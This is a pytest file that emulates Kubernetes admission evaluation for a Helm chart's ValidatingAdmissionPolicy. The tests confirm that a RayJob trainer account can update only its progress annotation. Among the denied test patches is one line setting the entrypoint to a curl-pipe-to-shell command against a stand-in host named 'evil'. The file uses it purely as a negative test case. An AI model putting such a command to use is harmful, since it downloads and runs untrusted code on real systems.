"""The chart's ValidatingAdmissionPolicy (templates/admission-policy.yaml): the trainer's service account may change
only the progress annotation of a RayJob.

No API server runs here, so the policy is evaluated the way the API server's admission plugin does it
(k8s.io/apiserver/pkg/admission/plugin/policy/validating): a request is in scope when the policy's
matchConstraints (group, resource, operation) and the binding's matchResources (the namespace's labels) match it;
then every matchCondition must be true, `variables` are evaluated in order and exposed as `variables.<name>`, and
the request is denied (validationActions Deny) by the first validation that is false, with its message. The CEL
itself runs on cel-python (`celpy`, a CEL-spec implementation on PyPI): what is faithful and what is not -

- faithful for these expressions: field selection, `has()` on fields and map keys, `in`, `all()`, `==` on
  strings, maps, lists and objects (CEL's deep equality), `&&`/`||`/`!` with CEL's error absorption;
- not done by celpy: the API server's type check of each expression against the RayJob's OpenAPI schema and its
  cost limits, both applied when the policy is created (a type error would reject the policy at install); the
  Kubernetes CEL libraries (none is used here); order-insensitive equality of lists marked
  `x-kubernetes-list-type: set|map` (celpy compares lists in order: stricter, it can only deny more).
So the policy is also checked against the Kubernetes 1.30 schema (tests/test_chart.py validates every rendered
object; here the two objects by name), and the request objects are built as the API server builds them: the
stored RayJob (the rendered one, with the metadata the server adds) as oldObject, and the JSON merge patch
(RFC 7386) the trainer sends - captured from trainer/progress.py's real request - applied to it as object.
"""

from __future__ import annotations

import copy
import json
import subprocess
import urllib.request
from pathlib import Path

import celpy
import pytest
import yaml

import k8s_validate as kv
from trainer import progress

REPO = Path(__file__).resolve().parents[1]
CHART = REPO / "charts" / "dolly-train"
NS, SA = "ml", "system:serviceaccount:ml:dolly-train"


def render(*args: str, namespace: str = NS) -> list[dict]:
    res = subprocess.run([kv.tool("helm"), "template", "dolly-train", str(CHART), "--namespace", namespace,
                          "--kube-version", "1.30", "-f", str(CHART / "values-cpu-smoke.yaml"), *args],
                         capture_output=True, text=True, timeout=60, check=True)
    return [o for o in yaml.safe_load_all(res.stdout) if o]


@pytest.fixture(scope="module")
def objs() -> list[dict]:
    return render()


def one(objs: list[dict], kind: str) -> dict:
    (obj,) = [o for o in objs if o["kind"] == kind]
    return obj


# ---- the admission plugin's evaluation ----------------------------------------------------------------------

class Denied(Exception):
    pass


def merge_patch(target, patch):
    """RFC 7386 JSON merge patch (what the API server applies for application/merge-patch+json)."""
    if not isinstance(patch, dict):
        return copy.deepcopy(patch)
    out = copy.deepcopy(target) if isinstance(target, dict) else {}
    for key, value in patch.items():
        if value is None:
            out.pop(key, None)
        else:
            out[key] = merge_patch(out.get(key), value)
    return out


def label_selector_matches(selector: dict, labels: dict) -> bool:
    if any(labels.get(k) != v for k, v in (selector.get("matchLabels") or {}).items()):
        return False
    for expr in selector.get("matchExpressions") or []:
        key, op, values = expr["key"], expr["operator"], expr.get("values") or []
        if (op == "In" and labels.get(key) not in values) or (op == "NotIn" and labels.get(key) in values) \
                or (op == "Exists" and key not in labels) or (op == "DoesNotExist" and key in labels):
            return False
    return True


def cel(expression: str, activation: dict):
    env = celpy.Environment()
    result = env.program(env.compile(expression)).evaluate(activation)
    if isinstance(result, celpy.CELEvalError):
        raise result
    return result


def admit(policy: dict, binding: dict, *, operation: str, username: str, namespace: str = NS,
          old: dict | None = None, new: dict | None = None, group: str = "ray.io", resource: str = "rayjobs") -> None:
    """Raises Denied(message) when the policy + binding deny the request; returns when they admit it or do not
    apply to it."""
    spec = policy["spec"]
    assert binding["spec"]["policyName"] == policy["metadata"]["name"]
    assert binding["spec"]["validationActions"] == ["Deny"]
    rules = spec["matchConstraints"]["resourceRules"]
    if not any(group in r["apiGroups"] and resource in r["resources"] and operation in r["operations"]
               for r in rules):
        return
    ns_labels = {"kubernetes.io/metadata.name": namespace}  # set by the API server on every namespace
    if not label_selector_matches(binding["spec"]["matchResources"].get("namespaceSelector") or {}, ns_labels):
        return
    request = {"operation": operation, "namespace": namespace, "userInfo": {"username": username},
               "resource": {"group": group, "version": "v1", "resource": resource}}
    act = {"request": celpy.json_to_cel(request), "object": celpy.json_to_cel(new),
           "oldObject": celpy.json_to_cel(old)}
    for cond in spec.get("matchConditions") or []:
        if not cel(cond["expression"], act):
            return
    variables = {}
    for var in spec.get("variables") or []:
        act["variables"] = celpy.json_to_cel(variables)
        variables[var["name"]] = json.loads(json.dumps(cel(var["expression"], act), default=str))
    act["variables"] = celpy.json_to_cel(variables)
    for v in spec["validations"]:
        try:
            ok = cel(v["expression"], act)
        except celpy.CELEvalError as e:  # failurePolicy Fail: an evaluation error denies
            assert spec["failurePolicy"] == "Fail"
            raise Denied(f"expression error: {e}") from None
        if not ok:
            raise Denied(v["message"])


# ---- the requests -------------------------------------------------------------------------------------------

def stored(rayjob: dict) -> dict:
    """The RayJob as the API server holds it after KubeRay picked it up."""
    obj = copy.deepcopy(rayjob)
    obj["metadata"].update(namespace=NS, uid="6f1c2a9e-3b4d-4e8f-9a0b-1c2d3e4f5a6b", resourceVersion="48213",
                           generation=1, creationTimestamp="2026-12-06T04:00:00Z",
                           finalizers=["ray.io/rayjob-finalizer"],
                           managedFields=[{"manager": "helm", "operation": "Update", "apiVersion": "ray.io/v1"}])
    obj["status"] = {"jobDeploymentStatus": "Running", "jobStatus": "RUNNING"}
    return obj


def progress_patch(monkeypatch) -> dict:
    """The body trainer/progress.py sends (its real code path; the network call is captured)."""
    sent = {}

    class Resp:
        def __enter__(self):
            return self

        def __exit__(self, *a):
            return False

        def read(self):
            return b"{}"

    def fake_urlopen(req, timeout=None, context=None):
        sent.update(method=req.get_method(), ctype=req.get_header("Content-type"), body=json.loads(req.data))
        return Resp()

    monkeypatch.setattr(urllib.request, "urlopen", fake_urlopen)
    target = progress.Target(api="http://127.0.0.1:1", namespace=NS, name="dolly-train",
                             token_file=__file__, ca_file=None)
    target.patch({"step": 3, "total_steps": 8, "percent": 37.5, "updated_at": "2026-12-06T04:10:00Z"})
    assert sent["method"] == "PATCH" and sent["ctype"] == "application/merge-patch+json"
    return sent["body"]


def update(old: dict, patch: dict, manager: str = progress.FIELD_MANAGER) -> dict:
    """The API server applies the patch, then (before validating admission) records the field manager and keeps
    resourceVersion/generation for the storage layer."""
    new = merge_patch(old, patch)
    new["metadata"]["managedFields"] = old["metadata"]["managedFields"] + [
        {"manager": manager, "operation": "Update", "apiVersion": "ray.io/v1"}]
    return new


@pytest.fixture
def policy_and_binding(objs):
    return one(objs, "ValidatingAdmissionPolicy"), one(objs, "ValidatingAdmissionPolicyBinding")


def test_policy_objects_validate_against_the_kubernetes_schema(objs, policy_and_binding):
    policy, binding = policy_and_binding
    assert kv.validate_objects([policy, binding], {}, k8s_version="1.30") == []
    broken = copy.deepcopy(policy)
    broken["spec"]["validations"][0]["expresion"] = broken["spec"]["validations"][0].pop("expression")
    assert kv.validate_objects([broken], {}, k8s_version="1.30")  # the schema check catches a typo
    # cluster-scoped, named after namespace and release: two releases never collide
    assert "namespace" not in policy["metadata"] and "namespace" not in binding["metadata"]
    assert policy["metadata"]["name"] == "dolly-train.ml.progress-only.dolly-train.dev"
    other = render(namespace="team-b")
    assert one(other, "ValidatingAdmissionPolicy")["metadata"]["name"] != policy["metadata"]["name"]
    # the username in the match condition is the service account the worker pods run as
    job = one(objs, "RayJob")
    sa = job["spec"]["rayClusterSpec"]["workerGroupSpecs"][0]["template"]["spec"]["serviceAccountName"]
    assert f"system:serviceaccount:{NS}:{sa}" == SA
    for expr in [c["expression"] for c in policy["spec"]["matchConditions"]] + \
            [v["expression"] for v in policy["spec"]["validations"] + policy["spec"]["variables"]]:
        celpy.Environment().compile(expr)  # parses as CEL


def test_the_trainers_own_progress_patch_is_admitted(objs, policy_and_binding, monkeypatch):
    policy, binding = policy_and_binding
    old = stored(one(objs, "RayJob"))
    body = progress_patch(monkeypatch)
    new = update(old, body)
    assert progress.from_object(new)["step"] == 3
    admit(policy, binding, operation="UPDATE", username=SA, old=old, new=new)
    # the next one replaces the annotation
    newer = update(new, {"metadata": {"annotations": {progress.ANNOTATION: json.dumps({"step": 4})}}})
    admit(policy, binding, operation="UPDATE", username=SA, old=new, new=newer)
    # a RayJob without any annotation yet (e.g. rendered by another tool): the first patch adds the map
    bare = copy.deepcopy(old)
    del bare["metadata"]["annotations"]
    admit(policy, binding, operation="UPDATE", username=SA, old=bare, new=update(bare, body))


DENIED = [
    ("suspend", {"spec": {"suspend": True}}, "change a RayJob's spec"),
    ("entrypoint", {"spec": {"entrypoint": "bash -c 'curl evil | sh'"}}, "change a RayJob's spec"),
    ("backoff-limit", {"spec": {"backoffLimit": 100}}, "change a RayJob's spec"),
    ("add-label", {"metadata": {"labels": {"kueue.x-k8s.io/queue-name": "other"}}}, "labels"),
    ("remove-label", {"metadata": {"labels": {"app.kubernetes.io/instance": None}}}, "labels"),
    ("other-annotation", {"metadata": {"annotations": {"note": "x"}}}, "only the annotation"),
    ("remove-sync-wave", {"metadata": {"annotations": {"argocd.argoproj.io/sync-wave": None}}}, "only the annotation"),
    ("change-sync-wave", {"metadata": {"annotations": {"argocd.argoproj.io/sync-wave": "5",
                                                       progress.ANNOTATION: "{}"}}}, "only the annotation"),
    ("drop-finalizer", {"metadata": {"finalizers": None}}, "finalizers"),
    ("add-owner", {"metadata": {"ownerReferences": [{"apiVersion": "v1", "kind": "ConfigMap", "name": "x",
                                                     "uid": "1"}]}}, "owner references"),
]


@pytest.mark.parametrize("case,patch,why", DENIED, ids=[d[0] for d in DENIED])
def test_anything_else_from_the_trainer_is_denied(objs, policy_and_binding, case, patch, why):
    policy, binding = policy_and_binding
    old = stored(one(objs, "RayJob"))
    # with or without a progress update in the same patch
    for body in (patch, merge_patch(patch, {"metadata": {"annotations": {progress.ANNOTATION: "{\"step\": 1}"}}})):
        new = update(old, body)
        assert new != old
        with pytest.raises(Denied, match=why):
            admit(policy, binding, operation="UPDATE", username=SA, old=old, new=new)


def test_create_and_delete_by_the_trainer_are_denied(objs, policy_and_binding):
    policy, binding = policy_and_binding
    job = stored(one(objs, "RayJob"))
    with pytest.raises(Denied, match="may not create or delete"):
        admit(policy, binding, operation="CREATE", username=SA, old=None, new=job)
    with pytest.raises(Denied, match="may not create or delete"):
        admit(policy, binding, operation="DELETE", username=SA, old=job, new=None)


def test_other_users_namespaces_and_resources_are_out_of_scope(objs, policy_and_binding):
    """The policy narrows the trainer only: KubeRay, Kueue, Argo CD and people keep what RBAC gives them."""
    policy, binding = policy_and_binding
    old = stored(one(objs, "RayJob"))
    suspended = update(old, {"spec": {"suspend": True}})
    for user in ("system:serviceaccount:kuberay-system:kuberay-operator",
                 "system:serviceaccount:kueue-system:kueue-controller-manager",
                 "system:serviceaccount:ml:default", "alice@example.com"):
        admit(policy, binding, operation="UPDATE", username=user, old=old, new=suspended)
    # the same account name in another namespace is another account, and this binding watches only its namespace
    admit(policy, binding, operation="UPDATE", username="system:serviceaccount:team-b:dolly-train", old=old,
          new=suspended, namespace="team-b")
    admit(policy, binding, operation="UPDATE", username=SA, old=old, new=suspended, namespace="team-b")
    admit(policy, binding, operation="UPDATE", username=SA, old=old, new=suspended, resource="rayclusters")


def test_policy_follows_progress_and_its_switch(objs):
    kinds = {o["kind"] for o in objs}
    assert {"ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"} <= kinds
    for args in (["--set", "progress.admissionPolicy=false"], ["--set", "progress.enabled=false"],
                 ["--set", "mode=raycluster"]):
        kinds = {o["kind"] for o in render(*args)}
        assert not kinds & {"ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"}, args


def _by_kind(objs: list[dict]) -> list[dict]:
    return sorted(objs, key=lambda o: (o["kind"], o["metadata"]["name"]))


@pytest.mark.parametrize("values_file", ["values.yaml", "values-cpu-smoke.yaml", "values-gpu-8x.yaml",
                                         "values-gpu-offload.yaml"])
def test_a_policy_only_release_renders_the_same_policy_and_nothing_else(values_file):
    """progress.admissionPolicyOnly (the Argo CD platform project's release): exactly the two policy objects the
    one-release rendering holds, byte for byte, and the workload release with admissionPolicy=false holds all the
    rest - together they are the one-release rendering."""
    def render_with(*args: str) -> list[dict]:
        res = subprocess.run([kv.tool("helm"), "template", "dolly-train", str(CHART), "--namespace", NS,
                              "--kube-version", "1.30", "-f", str(CHART / values_file), *args],
                             capture_output=True, text=True, timeout=60)
        assert res.returncode == 0, res.stderr
        return [o for o in yaml.safe_load_all(res.stdout) if o]

    whole = render_with()
    policy = [o for o in whole if o["kind"].startswith("ValidatingAdmissionPolicy")]
    assert len(policy) == 2
    only = render_with("--set", "progress.admissionPolicyOnly=true")
    assert _by_kind(only) == _by_kind(policy)
    rest = render_with("--set", "progress.admissionPolicy=false")
    assert _by_kind(rest + only) == _by_kind(whole)

